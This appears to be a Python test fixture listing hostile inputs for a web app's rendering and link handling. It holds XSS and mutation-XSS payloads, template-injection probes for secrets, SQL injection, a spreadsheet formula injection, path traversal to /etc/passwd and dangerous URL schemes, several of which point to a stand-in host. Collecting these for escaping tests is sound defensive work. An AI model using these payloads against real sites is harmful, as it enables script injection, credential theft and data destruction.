"""What somebody may write into a README, a profile or a category in the hope that a page runs it."""

# After OWASP's list for filter evasion.
SCRIPTS = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<ScRiPt>alert(1)</sCrIpT>",
    "<script/x>alert(1)</script>", "<script\x0c>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>", "<script>alert(1)//", "<script src=data:,alert(1)>",
    "<script type=module src=//evil.example></script>", '<script x=">" src=//evil.example></script>',
    "<script>a=/XSS/;alert(a.source)</script>", "</script><script>alert(1)</script>",
    "';alert(String.fromCharCode(88,83,83))//", '";alert(1);//', "--></script><script>alert(1)</script>",
    '\\";alert(1);//', "</title><script>alert(1)</script>", "]]><script>alert(1)</script>",
    "<!--<script>alert(1)//-->", '<noscript><p title="</noscript><script>alert(1)</script>">',
    "<script nonce=x>alert(1)</script>",
]  # fmt: skip
IMAGES = [
    "<img src=x onerror=alert(1)>", '<IMG SRC="javascript:alert(1)">', "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<IMG SRC=`javascript:alert(1)`>", '<IMG """><SCRIPT>alert(1)</SCRIPT>">', '<IMG SRC=# onmouseover="alert(1)">',
    "<IMG onmouseover=alert(1)>", "<img src=x:x onerror\x0b=alert(1)>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>", '<IMG SRC="jav\tascript:alert(1);">',
    '<IMG SRC="jav&#x0A;ascript:alert(1);">', '<IMG SRC=" &#14; javascript:alert(1);">',
    '<IMG DYNSRC="javascript:alert(1)">', '<IMG LOWSRC="javascript:alert(1)">', "<img/src=x/onerror=alert(1)>",
    '<img src="x"onerror=alert(1)//', "<img srcset=//evil.example/x.png>", "<img src=//evil.example/pixel.gif>",
    "<image src=x onerror=alert(1)>", "![x](javascript:alert(1))", '![x](x" onerror="alert(1))',
    "<img src='x' onerror='alert(1)'", '<img alt="<img src=x onerror=alert(1)>">',
    "<picture><source srcset=x onerror=alert(1)><img></picture>",
]  # fmt: skip
TAGS = [
    "<body onload=alert(1)>", '<BODY BACKGROUND="javascript:alert(1)">', "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>">', '<IFRAME SRC=# onmouseover="alert(1)">',
    '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>', "<embed src=//evil.example/x.swf>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "<object><param name=src value=javascript:alert(1)></object>", "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1)">',
    "<style>@import '//evil.example/x.css';</style>", '<div style="background-image:url(javascript:alert(1))">',
    '<div style="width:expression(alert(1))">', '<XSS STYLE="behavior:url(x.htc)">', "<x onclick=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<video src=x onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>", "<video><source onerror=alert(1)></video>", "<marquee onstart=alert(1)>",
    '<BGSOUND SRC="javascript:alert(1);">', "<form action=javascript:alert(1)><button>go</button></form>",
    "<button formaction=javascript:alert(1)>go</button>", "<isindex action=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>", '<a href="\x01javascript:alert(1)">x</a>',
    "<a href=//evil.example ping=//evil.example>x</a>", "<table background=javascript:alert(1)>",
    "<div hx-get=//evil.example hx-trigger=load>", "<div hx-on:click=alert(1)>", "<div data-hx-on-load=alert(1)>",
    "<slot onslotchange=alert(1)>", "<dialog open onclose=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
    '<LAYER SRC="//evil.example"></LAYER>', "<portal src=//evil.example>", "<plaintext>",
    "<xmp><script>alert(1)</script>", '<!DOCTYPE x [<!ENTITY y "z">]>', '<?xml version="1.0"?><x/>',
    "<? echo('<SCR)'; ?>", "<![CDATA[<script>alert(1)</script>]]>", "<%= 7*7 %>",
]  # fmt: skip
FOREIGN = [
    "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "<svg><use href=data:image/svg+xml,x#x></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>", "<svg><image href=x onerror=alert(1)></svg>",
    "</svg><script>alert(1)</script>", "<svg><style>*{x:url(//evil.example)}</style>",
    "<math><mtext></mtext><script>alert(1)</script></math>", "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script>",
]  # fmt: skip
# What a browser that writes and reads a page once more may make of it.
MUTATING = [
    "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><s><template><s><img src=x onerror=alert(1)>", '<p id="</p><img src=x onerror=alert(1)>">',
    '<a title="`<img src=x onerror=alert(1)>`">', "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;alert(1)", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;script>alert(1)",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\u2039script\u203a", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)", "\\x3cscript\\x3e",
    "<\u0130mg src=x onerror=alert(1)>", "\u212a<\u017fcript>alert(1)</\u017fcript>",
]  # fmt: skip
CLOSING = [
    '"><script>alert(1)</script>', "'><script>alert(1)</script>", '" onmouseover="alert(1)', "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)", " onclick=alert(1) x=", '" autofocus onfocus=alert(1) x="',
    '" style="position:fixed;inset:0', "</textarea><script>alert(1)</script>", "</title><img src=x onerror=alert(1)>",
    "</style><script>alert(1)</script>", "</bdi></p></li></ul></main></body></html>",
    "--!><img src=x onerror=alert(1)>", "</select><img src=x onerror=alert(1)>", "</option></select><script>",
    '\\"><img src=x onerror=alert(1)>', '" href="javascript:alert(1)', '" hx-get="//evil.example',
    '"/><rect onclick=alert(1) x="', 'x" data-language="y',
]  # fmt: skip
TEMPLATES = [
    "{{7*7}}", "{{ request.user.password }}", "{% load static %}", "{% include 'admin/base.html' %}", "{% debug %}",
    "{{ settings.SECRET_KEY }}", "${7*7}", "#{7*7}", "<%= 7*7 %>{{constructor.constructor('alert(1)')()}}", "{# x #}",
    "{% endblock %}", "{{ x|safe }}", "%(x)s %s {0} {x}", "{{'<img src=x onerror=alert(1)>'|safe}}",
]  # fmt: skip
LETTERS = [
    "\u202ecod.exe", "\u2066\u202dleft\u2069", "a\u200bb\u200c\u200d\u2060\ufeff",
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 <b>x</b>", "Z\u0351\u0352\u0353\u0354\u0355\u0361a\u0362\u035flgo",
    "\U000e0041\U000e0042 tags",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\U0001f469\u200d\U0001f469\u200d\U0001f467\U0001f469\u200d\U0001f469\u200d\U0001f467\U0001f469\u200d\U0001f469\u200d\U0001f467",
    "a\u2028b\u2029c", "\x1b[31mred\x1b[0m", "\x7f\x01\x02\x1f", "cafe\u0301 \xdf \ufb01", "=cmd()|' /C calc'!A0",
    "'; DROP TABLE recommendations_project; --", "' OR '1'='1", "../../etc/passwd", "\\\\evil.example\\share", "CON",
    "undefined null NaN", "0", "-1", "True",
]  # fmt: skip
TEXTS = [*SCRIPTS, *IMAGES, *TAGS, *FOREIGN, *MUTATING, *CLOSING, *TEMPLATES, *LETTERS]

# Homepages that get no link, and those whose link leads where they say.
UNLINKED = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
    "java\nscript:alert(1)", "\x01javascript:alert(1)", "javascript&colon;alert(1)",
    "javascript://evil.example/%0aalert(1)", "javascript:https://evil.example/",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=", "vbscript:msgbox(1)",
    "file:///etc/passwd", "ftp://evil.example/", "blob:https://evil.example/x", "about:blank", "//evil.example/",
    "/\\evil.example", "\\\\evil.example", "https:evil.example", "https:/evil.example/", "http:///evil.example",
    "http://", "https://user:password@evil.example/", "https://testserver@evil.example/", "http://evil.example:0/",
    "http://evil.example:99999/", "http://[::1", "http://evil.example\\@testserver/", "https://evil.example/\nX: y",
    "https://evil.example/a b", "https://evil.example/\u202ex", "view-source:https://evil.example/",
    "intent://evil.example/#Intent;end", "x", "?a=b", "#x",
    "https://evil.example/" + "x" * 2048,
]  # fmt: skip
LINKED = [
    'https://evil.example/"><script>alert(1)</script>', "https://evil.example/'onmouseover='alert(1)",
    "https://evil.example/?a=<b>&amp;c=%22%3E", "https://evil.example/{{7*7}}", "HTTPS://evil.example/",
    "https://evil.example/#<img/src=x/onerror=alert(1)>",
]  # fmt: skip
